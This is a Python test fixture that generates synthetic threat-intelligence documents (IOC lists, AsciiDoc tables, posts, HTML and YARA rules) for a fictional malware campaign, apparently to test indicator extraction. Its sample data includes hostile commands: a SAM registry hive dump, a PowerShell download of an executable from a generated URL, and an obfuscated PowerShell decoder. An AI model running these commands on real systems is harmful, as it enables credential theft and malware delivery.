"""Notes and repositories of vendors: short texts with long lists of indicators."""

from __future__ import annotations

import html
from typing import TYPE_CHECKING

from tests.support.seed_documents.names import Facts
from tests.support.seed_documents.reports import bracket_last_dot_of_host as defang

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.seed_documents.names import Document

_WORDS = ("charge", "legislate", "bid", "official paper", "instrument indenture", "details.")


def _campaign_notes(facts: Facts) -> Document:
    """Return notes with file names that contain dates, and several hosts per line."""
    documents = [
        f"- {facts.hash(64)}  {facts.random.choice(_WORDS)}{separator}07.14.2020.doc"
        for separator in ("-", "_", ",", ".", " ") * 3
    ]
    lines = [
        "2020-07-14 (TUESDAY) - WORD DOCS WITH MACROS FOR COPPERWICK\n",
        "CHAIN OF EVENTS:\n",
        "- malspam --> zip attachment --> Word doc --> enable macros --> installer DLL\n",
        "15 EXAMPLES OF WORD DOCS:\n",
        *documents,
        "\nDOMAINS HOSTING THE LOADER DLL:\n",
        *(f"- {defang(facts.domain())} - {defang(facts.address())}" for _ in range(6)),
        "\nURLS TO RETRIEVE LOADER DLL:\n",
        *(f"- GET /hboneb/sol95.php?l=puom{number}.cab" for number in range(1, 6)),
        "\nLOCATIONS FOR LOADER DLL:\n",
        "- C:\\Users\\[username]\\Documents\\",
        "\nDLL RUN METHOD:\n",
        "- regsvr32.exe [filename]",
        "\nTRAFFIC:\n",
        *(
            f"- {defang(facts.address())} port 443 - {defang(facts.domain())} - GET /background.png"
            for _ in range(5)
        ),
        "\nEXAMPLE OF COPPERWICK EXE:\n",
        f"- SHA256 hash: {facts.hash(64)}",
        "- File size: 569,344 bytes",
        "- File location: C:\\Users\\[username]\\AppData\\Local\\Temp\\~446334.exe",
    ]
    return facts.document("2020-07-14-IOCs-for-Copperwick.txt", "\n".join([*lines, ""]), "text")


def _sections(facts: Facts) -> Document:
    """Return a list of hashes, domains that are not defanged, commands and file names."""
    lines = [
        "SHA256",
        *(facts.hash(64) for _ in range(30)),
        "\n\nDomains:\n",
        *(facts.domain() for _ in range(8)),
        "\nObserved commands:",
        "C:\\Windows\\system32\\reg.exe save HKLM\\SAM sam.save",
        f"powershell (New-Object Net.Webclient).DownloadFile('{facts.url()}','C:\\Windows\\a.exe')",
        f"v1.0\\powershell.exe -c \"(0..61)|%{{$s+=[char][byte]('0x'+'{facts.digits(126)}')}}\"",
        "\nFile Names:",
        *("Typed_history.zip", "Appdata.zip", "IE_Passwords.zip", "ProcessExplorer.zip"),
    ]
    return facts.document("Copperwick_IOCs.txt", "\n".join([*lines, ""]), "text")


def _asciidoc_tables(facts: Facts) -> Document:
    """Return tables in which plus signs keep AsciiDoc from changing the indicators."""
    hashes = [
        f"|`+{facts.hash(40).upper()}+` |PowerShell/Copperwick.GA |CopperDoc - weaponizer."
        for _ in range(20)
    ]
    hosts = [
        *(f"|`+N/A+` |`+{defang(facts.domain())}+` |N/A |2023-12-20" for _ in range(10)),
        *(f"|`+{defang(facts.address())}+` |`+N/A+` |Host SRL |2023-08-16" for _ in range(10)),
    ]
    lines = [
        ":toc:\n",
        "= Copperwick -- Indicators of Compromise\n",
        f"The paper is available at {facts.link()}.\n",
        *("== Sample Hashes\n", '[options="header"]', "|===", "|SHA-1 |Detection |Description"),
        *(*hashes, "|===\n", "== Network IOCs\n", '[options="header"]', "|==="),
        *("|IP |Domain |Hosting provider |First seen", *hosts, "|===\n"),
        *("```", *(facts.domain() for _ in range(20)), "```"),
    ]
    return facts.document("README-tables.adoc", "\n".join([*lines, ""]))


def _asciidoc_samples(facts: Facts) -> Document:
    """Return hashes under names of files."""
    names = ("netprov.dll", "login.aspx", "myBT.jar", "di64.dat", "Final(x64).dll", "t.dll")
    lines = ["= Win/Copperwick IoCs\n", "== Samples\n"]
    for name in names:
        lines += [f".`{name}`", *(f"- `{facts.hash(64).upper()}`" for _ in range(3)), ""]
    lines += ["== Strings\n", '==== cmd.exe /c "%s 2>> %s"', "==== { F9 C4 08 10 40 4D F9 04 86 }"]
    return facts.document("README-samples.adoc", "\n".join([*lines, ""]))


def _posts(facts: Facts) -> Document:
    """Return short posts with hash tags and names of accounts."""
    posts = [
        f"#Copperwick from @reporter7 again, C2: {defang(facts.domain())}:8443 ({facts.hash(32)}) "
        f"payload {defang(facts.url())} #malware {defang(facts.address())}"
        for _ in range(10)
    ]
    return facts.document("posts.txt", "\n\n".join(posts), "text")


def _minified_html(facts: Facts) -> Document:
    """Return a page in one line. Tags separate the indicators; some brackets are entities."""
    cells = [
        *(f"<td>{facts.hash(64)}<br>{facts.hash(40)}<br/>{facts.hash(32)}</td>" for _ in range(6)),
        *(f"<td>&nbsp;{defang(facts.domain())}&nbsp;</td>" for _ in range(6)),
        *(f"<p>{facts.domain().replace('.', '&#91;.&#93;')}</p>" for _ in range(4)),
        *(f"<p>{html.escape(defang(facts.url()))}</p>" for _ in range(6)),
        *(f'<p>{defang(facts.address())}<span class="x">:443</span></p>' for _ in range(4)),
    ]
    page = f"<!doctype html><html><body><table>{''.join(cells)}</table></body></html>"
    return facts.document("minified.html", page, "text")


def _rules(facts: Facts) -> Document:
    """Return YARA rules with hashes in comments and metadata."""
    rules = [
        f'rule copperwick_{number}\n{{\n  meta:\n    author = "a@northlight-labs.com"\n'
        f'    hash = "{facts.hash(64)}"\n    // also {facts.hash(32)}\n  strings:\n'
        f'    $a = "{facts.domain()}" wide\n    $b = "kernel32.dll"\n    $c = {{ 8B ?? EC }}\n'
        "  condition:\n    uint16(0) == 0x5A4D and pe.number_of_sections > 3 and all of them\n}\n"
        for number in range(8)
    ]
    return facts.document("copperwick.yar", 'import "pe"\n\n' + "\n".join(rules), "text")


_MAKERS = (
    _campaign_notes,
    _sections,
    _asciidoc_tables,
    _asciidoc_samples,
    _posts,
    _minified_html,
    _rules,
)


def vendor_notes() -> Iterator[Document]:
    """Yield one document per shape."""
    for number, make in enumerate(_MAKERS):
        yield make(Facts(4_000 + number))
